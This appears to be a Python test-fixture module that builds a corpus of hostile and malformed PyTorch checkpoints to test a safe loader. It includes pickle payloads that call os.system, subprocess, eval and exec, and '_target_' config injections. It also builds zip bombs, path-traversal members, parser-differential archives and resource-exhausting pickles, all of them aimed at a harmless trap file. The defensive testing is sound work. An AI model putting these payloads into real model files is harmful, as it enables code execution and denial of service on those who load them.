"""Checkpoints that someone broke, or made to do harm. `corpus` writes them; none may make the file that is the trap."""

from __future__ import annotations

import builtins
import copy
import functools
import io
import operator
import os
import pathlib
import pickle
import random
import shutil
import struct
import subprocess
import types
import warnings
import zipfile
from collections.abc import Callable, Iterable, Iterator
from pathlib import Path
from typing import Any

import torch

NAN = float("nan")


class Call:
    """A pickle that calls something when it is read."""

    def __init__(self, function: Callable[..., Any], *arguments: Any) -> None:
        self.reduced = function, arguments

    def __reduce__(self) -> tuple[Callable[..., Any], tuple[Any, ...]]:
        return self.reduced


class Built:
    """A pickle that imports a name and hands it a state."""

    def __reduce__(self) -> tuple[Any, ...]:
        return types.SimpleNamespace, (), {"weight": 1}


def corpus(best: Path, folder: Path, trap: Path) -> dict[str, Path]:
    """Name -> file, each made from a good checkpoint; `trap` is what their code would make if it ran."""
    content = torch.load(best, weights_only=True)
    folder.mkdir(parents=True, exist_ok=True)
    touch = f"open({str(trap)!r}, 'w').close()"
    shell = f"touch '{trap}'"
    files: dict[str, Path] = {}

    def new(name: str) -> Path:
        files[name] = folder / f"{name}.ckpt"
        return files[name]

    def saved(name: str, change: Callable[[dict[str, Any]], Any]) -> None:
        changed = copy.deepcopy(content)
        result = change(changed)
        torch.save(changed if result is None else result, new(name))

    # code in the pickle
    calls = {
        "os_system": Call(os.system, shell),
        "subprocess": Call(subprocess.call, ["touch", str(trap)]),
        "eval": Call(builtins.eval, touch),
        "exec": Call(builtins.exec, touch),
        "import": Call(builtins.__import__, "this"),
        "getattr_chain": Call(builtins.getattr, Call(builtins.__import__, "os"), "system"),
        "partial": Call(functools.partial, os.system, shell),
        "methodcaller": Call(operator.methodcaller, "touch"),
        "path_write_text": Call(pathlib.Path.write_text, pathlib.PurePosixPath(trap), "here"),
        "path_touch": Call(pathlib.Path.touch, pathlib.PurePosixPath(trap)),
        "mkdir": Call(os.mkdir, str(trap)),
        "open": Call(builtins.open, str(trap), "w"),
        "torch_load": Call(torch.load, str(best)),
        "torch_hub_load": Call(torch.hub.load, "someone/something", "model"),
        "torch_save": Call(torch.save, {}, str(trap)),
        "rmtree": Call(shutil.rmtree, str(folder / "nothing")),
        "pickle_loads": Call(pickle.loads, pickle.dumps(Call(os.system, shell))),
        "built_state": Built(),
        "class_of_this_project": Call(torch.nn.Linear, 2, 2),
    }
    for name, call in calls.items():
        saved(name, lambda changed, call=call: {**changed, "extra": call})
    saved("code_as_weight", lambda c: c["state_dict"].update(w=calls["os_system"]))
    saved("code_as_key", lambda c: c["zoo"]["config"].update({Call(os.system, shell): 1}))
    saved("whole_is_code", lambda c: calls["exec"])
    new("bare_pickle").write_bytes(pickle.dumps(calls["os_system"]))
    torch.save(calls["os_system"], new("old_torch_format"), _use_new_zipfile_serialization=False)
    torch.jit.script(torch.nn.Linear(2, 2)).save(str(new("torchscript")))

    # code by way of the configuration
    targets = {
        "target_os_system": {"_target_": "os.system", "command": shell},
        "target_eval": {"_target_": "builtins.eval", "_args_": [touch]},
        "target_torch_load": {"_target_": "torch.load", "f": str(best), "weights_only": False},
        "target_hub": {"_target_": "torch.hub.load", "repo_or_dir": "a/b", "model": "c"},
        "target_write_text": {"_target_": "pathlib.Path.write_text", "self": str(trap), "data": "here"},
        "target_reexport": {"_target_": "zoo.tasks.graph.planetoid_files.os.system", "command": shell},
        "target_reexported_function": {
            "_target_": "zoo.tasks.graph.planetoid_files.fetch",
            "url": "x",
            "destination": "y",
        },
        "target_download": {
            "_target_": "zoo.data.download.fetch",
            "url": "x",
            "destination": str(trap),
            "sha256": None,
        },
        "target_reader": {
            "_target_": "zoo.tasks.graph.planetoid_files.read_planetoid",
            "root": str(trap),
            "name": "cora",
        },
        "target_writer": {"_target_": "zoo.checkpoints.checkpoint.write", "path": str(trap), "content": {}},
        "target_train": {"_target_": "zoo.training.run.train", "config": {}},
        "target_cli": {"_target_": "zoo.cli.main.main", "arguments": ["list"]},
        "target_private": {"_target_": "zoo.tasks.graph.planetoid_files._unpickle", "path": str(best)},
        "target_dunder": {"_target_": "zoo.attention.AttentionFactory.__init__.__globals__"},
        "target_data_as_model": {"_target_": "zoo.tasks.graph.planted_graph", "max_epochs": 1},
        "target_callback": {"_target_": "zoo.training.CheckpointAndStop", "run_dir": str(trap), "metadata": {}},
        "target_logger": {"_target_": "zoo.training.wandb", "run_dir": str(trap), "project": "theirs"},
        "target_optimizer_module": {"_target_": "torch.optim.optimizer.torch.load", "f": str(best)},
    }
    for name, node in targets.items():
        saved(name, lambda c, node=node: c["zoo"]["config"].update(model=node))
    saved("target_inside", lambda c: c["zoo"]["config"]["model"]["net"].update(attend=targets["target_os_system"]))
    saved("target_in_a_list", lambda c: c["zoo"]["config"]["model"].update(explain_layer=[targets["target_eval"]]))
    saved("interpolation", lambda c: c["zoo"]["config"]["model"]["net"].update(dim="${oc.env:HOME}"))

    # sizes that are not there
    saved("huge_dim", lambda c: c["zoo"]["config"]["model"]["net"].update(dim=2**40))
    saved("large_dim", lambda c: c["zoo"]["config"]["model"]["net"].update(dim=2**19))
    saved("huge_layers", lambda c: c["zoo"]["config"]["model"]["net"].update(layers=10**12))
    saved("many_layers", lambda c: c["zoo"]["config"]["model"]["net"].update(layers=10**6))
    saved("huge_classes", lambda c: c["zoo"]["sizes"].update(classes=2**50))
    saved("negative_size", lambda c: c["zoo"]["sizes"].update(classes=-3))
    name = "net.layers.0.bias"
    huge = torch.zeros(1).expand(10**12)
    saved("expanded_tensor", lambda c: c["state_dict"].update({name: huge}))
    saved("sparse_tensor", lambda c: c["state_dict"].update({name: torch.eye(3).to_sparse()}))
    saved("meta_tensor", lambda c: c["state_dict"].update({name: torch.empty(10**12, device="meta")}))
    _repacked(best, new("longer_storage"), lambda n, b: b[: len(b) // 2] if n.endswith("data/0") else b)
    _repacked(best, new("missing_storage"), lambda n, b: None if n.endswith("data/0") else b)

    # archives
    _repacked(best, new("zip_bomb"), lambda n, b: bytes(10**8) if n.endswith("data/0") else b, zipfile.ZIP_DEFLATED)
    with zipfile.ZipFile(new("nested_zip"), "w") as archive:
        archive.write(best, "archive/best.ckpt")
    with zipfile.ZipFile(new("empty_zip"), "w"):
        pass
    for label, member in {"absolute_member": str(trap), "climbing_member": f"../{trap.name}"}.items():
        _repacked(best, new(label), lambda n, b: b, more={member: b"here"})
    shutil.copy(best, new("repeated_member"))
    with zipfile.ZipFile(files["repeated_member"], "a") as archive, warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile's own, of the repeated name
        first = archive.namelist()[0]
        archive.writestr(archive.infolist()[0], archive.read(first))
    whole = best.read_bytes()
    hidden = {"archive/DATA.PKL": _laughing(), "archive/Data/0": bytes(8)}
    _repacked(best, new("other_case"), lambda n, b: b, before=hidden)
    _repacked(best, new("other_case_of_storage"), lambda n, b: b, more={"archive/DATA/0": bytes(10**6)})
    _repacked(best, new("other_folder"), lambda n, b: b, more={"ARCHIVE/data.pkl": _laughing()})
    _repacked(best, new("dotted_folder"), lambda n, b: b, more={"archive/./data.pkl": _laughing()})
    _repacked(best, new("nul_in_name"), lambda n, b: b, more={"archive/data.pklx": _laughing()})
    named = files["nul_in_name"].read_bytes()
    files["nul_in_name"].write_bytes(named.replace(b"archive/data.pklx", b"archive/data.pkl\0"))
    for label, archive in _two_directories(whole, _repacked_bytes({"archive/data.pkl": _laughing()})).items():
        new(label).write_bytes(archive)
    new("truncated").write_bytes(whole[: len(whole) // 2])
    new("empty").write_bytes(b"")
    new("text").write_text("hello")
    new("noise").write_bytes(bytes(range(256)) * 40)
    new("prefixed").write_bytes(b"#!/bin/sh\n" + whole)
    new("flipped").write_bytes(_flipped(whole))

    # pickles that reserve or recurse
    code = {
        "pickle_memo": b"\x80\x02]r" + struct.pack("<I", 2**31 - 1) + b".",
        "pickle_length": b"\x80\x04\x8e" + struct.pack("<Q", 2**62) + b"x.",
        "pickle_extension": b"\x80\x02\x82\x01.",
        "pickle_stack": b"\x80\x02" + b"0" * 50 + b".",
        "pickle_instance": b"(S'touch x'\nios\nsystem\n.",
        "pickle_no_end": b"\x80\x02}",
    }
    code |= {
        "pickle_lists": b"\x80\x02" + b"]" * 2_000_000 + b".",
        "pickle_marks": b"\x80\x02" + b"(" * 2_000_000 + b".",
        "pickle_calls": b"\x80\x02ctorch\nSize\nq\x00" + b"h\x00)R" * 1_500_000 + b".",
        "pickle_doubling": b"\x80\x02]" + b"2" * 1000 + b".",
        "pickle_frame": b"\x80\x04\x95" + struct.pack("<Q", 2**62) + b"}.",
        "pickle_two_kinds": _two_kinds(),
    }
    for label, opcodes in code.items():
        _repacked(best, new(label), lambda n, b, opcodes=opcodes: opcodes if n.endswith("data.pkl") else b)
    nested: list[Any] = []
    for _ in range(200):
        nested = [nested]
    saved("deep", lambda c: c["zoo"]["data"].update(labels=nested))
    saved("deep_configuration", lambda c: c["zoo"]["config"].update(model={"_target_": "x", "net": nested}))
    laughs: list[Any] = ["ha"]
    for _ in range(40):
        laughs = [laughs, laughs]
    saved("billion_laughs", lambda c: c["zoo"]["data"].update(labels=laughs))
    loop: list[Any] = []
    loop.append(loop)
    saved("endless", lambda c: c["zoo"]["config"].update(names={"model": loop}))

    # wrong types and shapes
    saved("wrong_shape", lambda c: c["state_dict"].update({name: torch.zeros(3)}))
    saved("wrong_dtype", lambda c: c["state_dict"].update({name: c["state_dict"][name].long()}))
    saved("lacking_weight", lambda c: c["state_dict"].__delitem__(name))
    saved("nan_key", lambda c: c["zoo"]["config"].update({NAN: 1}))
    saved("nan_weight_name", lambda c: c["state_dict"].update({NAN: torch.zeros(1)}))
    saved("tuple_key", lambda c: c["zoo"]["data"].update({("a", "b"): 1}))
    saved("weight_is_text", lambda c: c["state_dict"].update({name: "text"}))
    saved("config_is_list", lambda c: c["zoo"].update(config=[1]))
    saved("sizes_are_text", lambda c: c["zoo"].update(sizes={"features": "12", "classes": 3}))
    saved("no_overrides", lambda c: c["zoo"]["config"].update(overrides="model=gat"))
    saved("newer_format", lambda c: c["zoo"].update(format=7))
    saved("negative_format", lambda c: c["zoo"].update(format=-1))
    saved("boolean_format", lambda c: c["zoo"].update(format=True))
    saved("only_weights", lambda c: dict(c["state_dict"]))
    saved("foreign", lambda c: {"epoch": 1, "state_dict": c["state_dict"], "hyper_parameters": {}})
    return files


def mutants(content: dict[str, Any], count: int, seed: int) -> Iterator[tuple[str, dict[str, Any]]]:
    """Yields changed copies of a checkpoint's content: one number, text, list or entry of its description is another.

    Args:
        content: The content of a good checkpoint.
        count: How many.
        seed: Seed of what is changed.
    """
    draw = random.Random(seed)
    places = [
        (*part, *place)
        for part in (("sizes",), ("data",), ("config", "model"), ("config", "data"))
        for place in _places(_at(content["zoo"], part))
    ]
    sizes = [place for place in places if type(_at(content["zoo"], place)) in (int, float)]
    for _ in range(count):
        changed = {**content, "zoo": copy.deepcopy(content["zoo"])}
        place = draw.choice(sizes if draw.random() < 0.7 else places)
        node, key = _at(changed["zoo"], place[:-1]), place[-1]
        old = node[key]
        value = draw.choice(_NUMBERS if type(old) in (int, float) and draw.random() < 0.9 else _OTHERS)
        if type(old) is list and draw.random() < 0.5:
            value = old * draw.choice((0, 2, 1000))
        node[key] = type(old)(value) if type(old) is float and type(value) is int else value
        same = place[-1]
        if same in ("height", "width", "length") and draw.random() < 0.5:  # all that is compared says the same
            for part in ("sizes", "data"):
                if same in changed["zoo"][part]:
                    changed["zoo"][part][same] = value
        yield f"{'.'.join(map(str, place))}={str(value)[:20]}", changed


_NUMBERS = (0, -1, 7, 300, 6000, 30_000, 10**6, 2**31, 10**12, 10**30)
_OTHERS = (None, "text", "", NAN, float("inf"), [], [[]], {}, True, [1] * 1000, "/dev/zero", {"_target_": "os.system"})


def _places(node: Any, place: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """Yields the path of each entry, of long lists the first alone."""
    entries = node.items() if isinstance(node, dict) else enumerate(node[:1]) if isinstance(node, list) else ()
    for key, each in entries:
        yield (*place, key)
        yield from _places(each, (*place, key))


def _at(node: Any, place: Iterable[Any]) -> Any:
    for key in place:
        node = node[key]
    return node


def _repacked(
    source: Path,
    target: Path,
    change: Callable[[str, bytes], bytes | None],
    compression: int = zipfile.ZIP_STORED,
    more: dict[str, bytes] | None = None,
    before: dict[str, bytes] | None = None,
) -> None:
    with zipfile.ZipFile(source) as old:
        changed = {name: change(name, old.read(name)) for name in old.namelist()}
    kept = {name: written for name, written in changed.items() if written is not None}
    target.write_bytes(_repacked_bytes({**(before or {}), **kept, **(more or {})}, compression))


def _repacked_bytes(members: dict[str, bytes], compression: int = zipfile.ZIP_STORED) -> bytes:
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", compression) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return written.getvalue()


def _laughing() -> bytes:
    """A pickle that is small and makes much: each list holds the one before it twice."""
    return b"\x80\x02]q\x00" + b"]q\x01(h\x00h\x00eq\x00" * 3000 + b"."


def _two_kinds() -> bytes:
    """One storage, said to be of bytes and then of doubles."""

    def storage(kind: bytes, count: int) -> bytes:
        return (
            b"(X\x07\x00\x00\x00storagectorch\n"
            + kind
            + b"\nX\x01\x00\x00\x000X\x03\x00\x00\x00cpuK"
            + bytes([count])
            + b"tQ"
        )

    return b"\x80\x02" + storage(b"DoubleStorage", 4) + storage(b"ByteStorage", 32) + b"\x86."


def _two_directories(whole: bytes, other: bytes) -> dict[str, bytes]:
    """Archives in which readers find different members, by the place where each looks for the directory."""
    end, locator, end_64 = len(whole) - 22, len(whole) - 42, len(whole) - 98
    directory = struct.unpack_from("<I", whole, end + 16)[0]
    other_end = len(other) - 22
    other_directory = struct.unpack_from("<I", other, other_end + 16)[0]
    entry = whole.index(b"PK\x01\x02", directory)
    moved = bytearray(other[other_directory:other_end])  # the other's directory, for members behind this archive
    for place in (each for each in range(len(moved)) if moved.startswith(b"PK\x01\x02", each)):
        moved[place + 42 : place + 46] = struct.pack("<I", struct.unpack_from("<I", moved, place + 42)[0] + directory)
    both = whole[:directory] + other[:other_directory]
    start, size, start_64 = len(both), len(moved), len(both) + len(moved)
    theirs = struct.pack("<4sQ2H2I4Q", b"PK\x06\x06", 44, 30, 45, 0, 0, 1, 1, size, start)
    ours = whole[directory:end_64]
    tail = struct.pack("<4sIQI", b"PK\x06\x07", 0, start_64, 1) + whole[end:]
    shifted = bytearray(whole)
    shifted[locator + 8 : locator + 16] = struct.pack("<Q", end_64 - 56)
    header = bytearray(whole)
    header[18:26] = struct.pack("<2I", 7, 7)
    renamed = bytearray(whole)
    renamed[30:46] = b"archive/data.PKL"
    far = bytearray(whole)
    far[entry + 42 : entry + 46] = struct.pack("<I", 64)
    return {
        "two_directories": both + bytes(moved) + theirs + ours + whole[end_64:locator] + tail,
        "two_ends": whole + other,
        "ends_that_differ": whole[:end_64] + theirs + whole[locator:],
        "end_elsewhere": bytes(shifted),
        "archive_in_comment": whole[:-2] + struct.pack("<H", len(other)) + other,
        "header_differs": bytes(header),
        "name_differs": bytes(renamed),
        "overlapping": bytes(far),
        "gap": _with_gap(whole, directory, end_64),
    }


def _with_gap(whole: bytes, directory: int, end_64: int) -> bytes:
    """Bytes that no member has, before the directory."""
    gap = bytes(1000)
    shifted = bytearray(whole[end_64:])
    shifted[48:56] = struct.pack("<Q", directory + len(gap))
    shifted[64:72] = struct.pack("<Q", end_64 + len(gap))
    shifted[92:96] = struct.pack("<I", directory + len(gap))
    return whole[:directory] + gap + whole[directory:end_64] + bytes(shifted)


def _flipped(whole: bytes) -> bytes:
    """One byte of the pickle is another one."""
    with zipfile.ZipFile(io.BytesIO(whole)) as archive:
        (member,) = [each for each in archive.infolist() if each.filename.endswith("data.pkl")]
        start = whole.index(b"\x80\x02", member.header_offset)
    changed = bytearray(whole)
    changed[start + 40] ^= 0xFF
    return bytes(changed)
